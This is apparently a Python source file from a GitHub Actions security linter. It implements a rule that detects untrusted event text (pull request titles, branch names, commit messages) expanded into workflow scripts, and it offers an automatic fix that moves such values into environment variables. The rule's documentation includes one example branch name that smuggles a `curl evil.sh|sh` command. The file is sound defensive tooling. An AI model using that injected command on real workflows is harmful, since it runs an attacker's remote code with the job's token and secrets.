"""template-injection: text an attacker controls, expanded into a script by ``${{ }}``.

The untrusted values are those GitHub's "Security hardening for GitHub Actions" (understanding
the risk of script injections) and the GitHub Security Lab's "Untrusted input" list name: titles,
bodies, commit messages, author names and emails, and branch names of pull requests.
"""

from __future__ import annotations

import os
import re
from collections.abc import Iterator
from functools import partial
from typing import TYPE_CHECKING

from pitstop.audit.findings import Fix
from pitstop.audit.locate import fragment_span
from pitstop.audit.repo import Repo, StepPlace
from pitstop.audit.rule import Check, Docs, Rule
from pitstop.expr import arities, ast, default_functions
from pitstop.expr.errors import ExpressionError
from pitstop.expr.parser import parse
from pitstop.expr.template import Embedded, find_expressions
from pitstop.fix.patch import CannotFix
from pitstop.knowledge.sinks import sink
from pitstop.workflow.yaml import MappingNode, ScalarNode

if TYPE_CHECKING:
    from pitstop.fix.context import FixContext

UNTRUSTED = re.compile(
    r"\bgithub\s*\.\s*(head_ref\b|event\s*\.\s*("
    r"(issue|pull_request|discussion)\.(title|body)"
    r"|(comment|review|review_comment)\.body"
    r"|pages(\.\*|\[\d+\])?\.page_name"
    r"|(commits(\.\*|\[\d+\])?|head_commit)\.(message|author\.(email|name))"
    r"|pull_request\.head\.(ref|label|repo\.default_branch)"
    r"|workflow_run\.(head_branch|display_title|head_commit\.(message|author\.(email|name)))"
    # an `edited` event's previous values: the title, body or discussion the author wrote
    # (GitHub's webhook payloads, "changes" of issues, pull_request and discussion events)
    r"|changes\.\w+"
    r"))",
    re.IGNORECASE,
)
# The event, or a part of it that holds an outsider's text, as an object.
EVENT_OBJECT = re.compile(
    r"github\.event(\.(issue|pull_request|comment|review|review_comment|discussion"
    r"|head_commit|commits|workflow_run|pages))?",
    re.IGNORECASE,
)
SERIALIZED = re.compile(r"toJSON\(\s*" + EVENT_OBJECT.pattern + r"\s*\)", re.IGNORECASE)
SHELLS = ("bash", "sh")


def check(repo: Repo, out: Check) -> None:
    for place, script, node, where in _all_scripts(repo):
        out.checked += 1
        try:
            found = list(find_expressions(script))
        except ExpressionError:
            continue  # pitstop validate reports it
        after = 0
        for embedded in found:
            source = script[embedded.start : embedded.end]
            span = fragment_span(place.doc, node, source, after)
            after = max(after, span.end - node.start.offset)
            untrusted = UNTRUSTED.search(embedded.text) or SERIALIZED.search(embedded.text)
            if untrusted is None:
                passed = _passed_input(repo, place, embedded.text)
                if passed is not None and _reaches_result(embedded.text, INPUT):
                    out.flag(
                        span,
                        f"'{passed[0]}' is expanded into the {where}: {passed[1]}, and what it "
                        "holds runs here as code; pass it through env",
                        confidence=passed[2],
                        severity="high" if passed[2] == "high" else "medium",
                        fix=_fix(place, script, embedded) if where == "script" else None,
                    )
                continue
            if not _reaches_result(embedded.text):
                continue
            if _equal_to_trusted(place, untrusted.group(0)):
                continue
            out.flag(
                span,
                f"'{untrusted.group(0)}' is expanded into the {where}: whoever writes it (a pull "
                "request title, a branch name) writes code that runs here, with the job's token",
                fix=_fix(place, script, embedded) if where == "script" else None,
            )
    out.figure = f"{out.checked - out.failed} of {out.checked} scripts expand no untrusted input"


# Values a maintainer chose: the base branch, the repository's default branch.
TRUSTED_REFS = (
    r"github\.(event\.pull_request\.base\.ref|base_ref|event\.repository\.default_branch)"
)


def _equal_to_trusted(place: StepPlace, value: str) -> bool:
    """The step runs only when the value equals one a maintainer chose (talawa-api echoes the
    head branch when `if: github.event.pull_request.base.ref == github.event.pull_request.head.ref`,
    so it is a base branch's name)."""
    condition = " ".join(str(c or "") for c in (place.step.if_, place.job.if_ if place.job else ""))
    if "||" in condition or "!" in condition.replace("!=", ""):
        return False  # the equality may not be what lets the step run
    name = re.escape(value)
    return bool(
        re.search(rf"{name}\s*==\s*{TRUSTED_REFS}\b", condition)
        or re.search(rf"{TRUSTED_REFS}\s*==\s*{name}(?![\w.])", condition)
    )


INPUT = re.compile(r"\binputs\s*\.\s*([\w-]+)", re.IGNORECASE)


def _passed_input(repo: Repo, place: StepPlace, expression: str) -> tuple[str, str, str] | None:
    """When ``expression`` reads an input of a composite action or of a reusable workflow:
    the input, who fills it and how sure that is an outsider's text. A caller in this
    repository that passes an outsider's text makes it certain; with no caller here, the
    action or workflow is for others to call (``_for_others``), with whatever they pass
    (medium). Callers here
    that pass only their own values, and inputs that are not strings, are safe."""
    found = INPUT.search(expression)
    if found is None:
        return None
    name = found.group(1)
    if place.action is not None and place.action.using == "composite":
        callers = repo.local_calls().get(os.path.dirname(os.path.normpath(place.action.path)), [])
        owner = "this action's input"
    elif place.workflow is not None and "workflow_call" in place.workflow.triggers:
        declared = place.workflow.triggers["workflow_call"].inputs.get(name) or {}
        if str(declared.get("type", "string")) != "string":
            return None  # a boolean or a number holds no code
        callers = repo.local_calls().get(os.path.normpath(place.workflow.path), [])
        owner = "this workflow's input"
    else:
        return None
    text = f"inputs.{name}"
    if not callers and _for_others(repo, place):
        return text, f"{owner}, filled by whoever calls it", "medium"
    for given in callers:
        value = given.get(name) if isinstance(given, dict) else None
        untrusted = UNTRUSTED.search(str(value)) if value is not None else None
        if untrusted is not None:
            return text, f"{owner}, given {untrusted.group(0)} by a caller", "high"
    return None


def _for_others(repo: Repo, place: StepPlace) -> bool:
    """An action or workflow that other repositories call: an action outside `.github/`
    (`action.yml` at the root, `init/action.yml`), or a workflow that runs on nothing but
    `workflow_call`. A `.github/actions/` action or a workflow that also runs on its own is
    this repository's, called from places pitstop may not resolve (electron's checkout into
    `src/electron`)."""
    if place.action is not None:
        return not repo.relative(place.action.path).startswith(".github/")
    return place.workflow is not None and set(place.workflow.triggers) == {"workflow_call"}


ARITIES = arities(default_functions())
# Functions whose result is a boolean, whatever text they are given.
BOOLEAN_FUNCTIONS = frozenset(
    {"startswith", "endswith", "contains", "success", "failure", "always", "cancelled"}
)


def _reaches_result(expression: str, taint: re.Pattern[str] = UNTRUSTED) -> bool:
    """Whether untrusted text can be part of what the expression evaluates to: not when it
    is only compared, or tested by ``startsWith``/``contains`` (``${{ startsWith(
    github.event.head_commit.message, 'wip') && 'skip' || 'build' }}`` expands to a literal).
    An expression that does not parse counts as reaching it."""
    try:
        tree = parse(expression, None, ARITIES)
    except ExpressionError:
        return True
    return tree is not None and _tainted(tree, taint)


def _tainted(node: ast.Node | ast.Star, taint: re.Pattern[str]) -> bool:
    if isinstance(node, (ast.Literal, ast.Star)):
        return False
    if isinstance(node, (ast.Compare, ast.Not)):
        return False  # true or false
    if isinstance(node, ast.Call):
        if node.name.lower() in BOOLEAN_FUNCTIONS:
            return False
        if node.name.lower() == "tojson" and any(
            EVENT_OBJECT.fullmatch(_text(a)) for a in node.args
        ):
            return True  # the whole event, titles and bodies included, written into code
        return any(_tainted(a, taint) for a in node.args)  # format, join, toJSON: their text
    if isinstance(node, ast.Logical):
        return any(_tainted(a, taint) for a in node.args)  # the operand that decided
    if isinstance(node, ast.Group):
        return _tainted(node.inner, taint)
    return taint.search(_text(node)) is not None  # a context, a property of one


def _text(node: ast.Node | ast.Star) -> str:
    """A context path as written, for the untrusted list: ``github.event.issue.title``."""
    if isinstance(node, ast.Context):
        return node.name
    if isinstance(node, ast.Index):
        key = node.key
        if isinstance(key, ast.Star):
            return _text(node.obj) + ".*"
        if isinstance(key, ast.Literal):
            value = key.value
            return _text(node.obj) + (f"[{value:g}]" if isinstance(value, float) else f".{value}")
        return _text(node.obj) + "[]"
    return ""


def _all_scripts(repo: Repo) -> Iterator[tuple[StepPlace, str, ScalarNode, str]]:
    for place in repo.steps():
        for script, node, where in _scripts(place):
            yield place, script, node, where


def _scripts(place: StepPlace) -> Iterator[tuple[str, ScalarNode, str]]:
    """A step's scripts: its ``run:``, or each input of an action that runs as code
    (``knowledge/sinks.toml``: github-script's `script`, yq's `cmd`, azure/cli's
    `inlineScript`, tibdex/backport's templates…)."""
    node = place.step.node.get("run")
    if node is not None:
        if isinstance(node, ScalarNode) and isinstance(node.value, str):
            yield node.value, node, "script"
        return
    given = place.step.node.get("with")
    name = (place.step.uses or "").partition("@")[0]
    for field, language in sink(place.step.uses or ""):
        found = given.get(field) if isinstance(given, MappingNode) else None
        if isinstance(found, ScalarNode) and isinstance(found.value, str):
            yield found.value, found, f"{language} that {name} runs ({field})"


def _fix(place: StepPlace, script: str, embedded: Embedded) -> Fix | None:
    if place.shell not in SHELLS:
        return None
    quoting = _quoting(script, embedded.start)
    name = _env_name(embedded.text)
    return Fix(
        f"moved ${{{{ {embedded.text} }}}} into env {name}",
        "safe" if quoting != "heredoc" else "unsafe",
        partial(_to_env, place, embedded, name, quoting),
    )


def _quoting(script: str, position: int) -> str:
    """Whether ``position`` of a shell script is inside single quotes, double quotes, a
    here-document (anywhere after a line that opens one), or none of these. A reading for the
    common cases, not a shell parser."""
    single = double = opens_heredoc = False
    index = 0
    while index < position:
        c = script[index]
        if c == "\\" and not single:
            index += 2
            continue
        quoted = single or double
        if c == "'" and not double:
            single = not single
        elif c == '"' and not single:
            double = not double
        elif c == "#" and not quoted and (index == 0 or script[index - 1] in " \t\n"):
            end = script.find("\n", index)
            index = position if end < 0 or end >= position else end
            continue
        elif script.startswith("<<", index) and not quoted and not script.startswith("<<<", index):
            opens_heredoc = True
            index += 2
            continue
        elif c == "\n" and opens_heredoc:
            return "heredoc"
        index += 1
    return "single" if single else "double" if double else "none"


def _env_name(expression: str) -> str:
    path = re.sub(r"\[\d+\]|\.\*", "", expression)
    parts = [p for p in re.split(r"\s*\.\s*", path) if p and p.lower() not in ("github", "event")]
    return (
        "_".join(parts[-2:]).upper()
        if len(parts) > 1
        else (parts[-1] if parts else "VALUE").upper()
    )


def _to_env(
    place: StepPlace, embedded: Embedded, name: str, quoting: str, context: FixContext
) -> None:
    node = place.step.node.get("run")
    if not isinstance(node, ScalarNode):
        raise CannotFix("the script is not a string")
    patch = context.patch(place.doc)
    wanted = f"${{{{ {embedded.text} }}}}"
    env = place.step.node.get("env")
    taken = {**(place.job.env if place.job and isinstance(place.job.env, dict) else {})}
    taken.update(
        place.workflow.env if place.workflow and isinstance(place.workflow.env, dict) else {}
    )
    if isinstance(env, MappingNode):
        taken.update(env.to_python())
    script = str(node.value)
    base, number = name, 2
    while (name in taken and taken[name] != wanted) or (
        name not in taken and re.search(rf"\${{?{name}\b", script)
    ):
        name, number = f"{base}_{number}", number + 1
    source = script[embedded.start : embedded.end]
    at = place.doc.text.find(source, node.start.offset, node.end.offset)
    nth = script.count(source, 0, embedded.start)
    for _ in range(nth):
        at = place.doc.text.find(source, at + 1, node.end.offset)
    if at < 0:
        raise CannotFix("the expression is not written as it reads")
    variable = f"'\"${{{name}}}\"'" if quoting == "single" else f"${{{name}}}"
    patch.replace_fragment(node, at, at + len(source), variable)
    if taken.get(name) == wanted and isinstance(env, MappingNode) and name in env:
        return
    if isinstance(env, MappingNode):
        patch.insert_entry(env, name, wanted)
    elif env is None:
        patch.insert_entry(place.step.node, "env", {name: wanted}, before=("run",))
    else:
        raise CannotFix("the step's env is not a mapping")


RULE = Rule(
    id="template-injection",
    category="security",
    severity="high",
    summary="Untrusted input is expanded into a script with ${{ }}.",
    docs=Docs(
        what="Flags `${{ }}` expressions in `run:` scripts, and in action inputs that run as "
        "code (`pitstop/knowledge/sinks.toml`: github-script's `script`, yq's `cmd`, azure/cli's "
        "`inlineScript`, pwsh-script, docker-run-action…), that read text an outsider controls "
        "(or serialize the event that holds it, `toJSON(github.event)`): issue, pull request, "
        "discussion and comment titles "
        "and bodies, commit messages and authors, `github.head_ref` and the pull request's head "
        "branch and label, the same fields of `workflow_run`, and an edited event's previous "
        "values (`github.event.changes.*`). An input of a composite action or a reusable "
        "workflow (`${{ inputs.x }}`) is flagged too: high when a caller in this repository "
        "passes it such text, medium when the action or workflow is for other repositories "
        "(an action outside `.github/`, a workflow that runs only on `workflow_call`), whose "
        "callers pass what they like. zizmor's `# zizmor: ignore[template-injection]` is "
        "honoured.",
        why="`${{ }}` is replaced before the shell sees the script, so the value becomes code. A "
        'branch named `a";curl evil.sh|sh;"` runs that command, with the job\'s token and '
        "secrets. An environment variable is data: the shell never reads it as code.",
        example='- run: echo "Title: ${{ github.event.pull_request.title }}"',
        instead="- env:\n    PULL_REQUEST_TITLE: ${{ github.event.pull_request.title }}\n"
        '  run: echo "Title: ${PULL_REQUEST_TITLE}"\n\n`pitstop fix` makes this change for bash '
        "and sh steps (inside single quotes it writes `'\"${NAME}\"'`).",
    ),
    check=check,
    fixable="safe",
)
